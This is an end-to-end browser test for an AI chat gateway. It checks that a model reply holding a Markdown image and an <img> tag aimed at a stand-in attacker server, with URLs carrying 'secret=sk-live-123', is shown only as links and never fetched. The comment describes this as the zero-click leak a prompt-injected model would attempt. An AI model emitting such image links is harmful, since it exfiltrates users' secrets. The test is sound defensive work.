import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { StreamingRunner } from '../fakes/streaming-runner.js';
import { type Browser, closeBrowser, launchBrowser } from '../helpers/browser.js';
import { openControlUi } from '../helpers/control-ui.js';
import { startTestGateway } from '../helpers/gateway.js';
import { cleanupAfterEach } from '../helpers/teardown.js';

/**
 * No zero-click leak through the web chat: a reply whose Markdown holds a remote image (what an
 * injected model writes to have the browser fetch a URL carrying a secret) is shown as a link the
 * person can read, never as an image, and nothing is fetched from that host. Chromium against a
 * whole gateway whose turn runner answers with that Markdown; a server of the test's own stands
 * for the attacker's host and records every request it gets.
 */

const cleanups = cleanupAfterEach();

describe('the web chat shows no remote image', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser({ width: 1280, height: 800 });
  });
  afterAll(async () => {
    await closeBrowser(browser);
  });

  it('a Markdown image and an <img> to another host become links; the host gets no request', async () => {
    const arrived: string[] = [];
    const attacker = createServer((request, response) => {
      arrived.push(request.url ?? '');
      response.writeHead(200, { 'content-type': 'image/png' }).end();
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    cleanups.push(() => new Promise<void>((resolve) => attacker.close(() => resolve())));
    const host = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    const reply = [
      'Here is the chart:',
      '',
      `![chart](${host}/leak?secret=sk-live-123)`,
      '',
      `<img src="${host}/leak2?secret=sk-live-123" alt="pixel">`,
      '',
      'and a tiny inline one: ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
    ].join('\n');
    const runner = new StreamingRunner({ deltas: [], final: reply });
    runner.releaseAll();
    const gateway = await startTestGateway({ createRunner: () => runner });
    cleanups.push(() => gateway.dispose());
    const seen: string[] = [];
    const page = await browser.context.newPage();
    page.setDefaultTimeout(15_000);
    cleanups.push(() => page.close());
    page.on('request', (request) => seen.push(request.url()));
    await openControlUi(page, gateway.url, gateway.token, 'chat');
    await expect
      .poll(() => page.locator('#connection').textContent(), { timeout: 15_000 })
      .toBe('connected as webchat:local');
    await page.locator('#text').fill('show me the chart');
    await page.locator('#text').press('Enter');
    const answer = page.locator('#log .message.agent').first();
    await answer.getByText('Here is the chart').waitFor();

    // Shown as links (the address readable, opened only by a click), not as images.
    const links = await answer
      .locator('a')
      .evaluateAll((all) => all.map((a) => [a.getAttribute('href'), a.textContent, a.getAttribute('rel')]));
    expect(links).toEqual([
      [`${host}/leak?secret=sk-live-123`, 'chart', 'noopener noreferrer'],
      [`${host}/leak2?secret=sk-live-123`, 'pixel', 'noopener noreferrer'],
    ]);
    const images = await answer
      .locator('img')
      .evaluateAll((all) => all.map((img) => img.getAttribute('src')));
    // Only the picture whose bytes are in the text stays an image.
    expect(images).toEqual(['data:image/gif;base64,R0lGODlhAQABAAAAACw=']);
    // No element asks for the host (above); this wait only proves nothing else did either: it
    // waits past the moment Chromium starts the fetch of an inserted image (at once) and its answer.
    await new Promise((resolve) => setTimeout(resolve, 500));
    const fetched = await page.evaluate(() =>
      performance.getEntriesByType('resource').map((entry) => entry.name),
    );
    expect(fetched.filter((url) => url.startsWith(host))).toEqual([]);
    expect(seen.filter((url) => url.startsWith(host))).toEqual([]);
    expect(arrived).toEqual([]);
  });
});
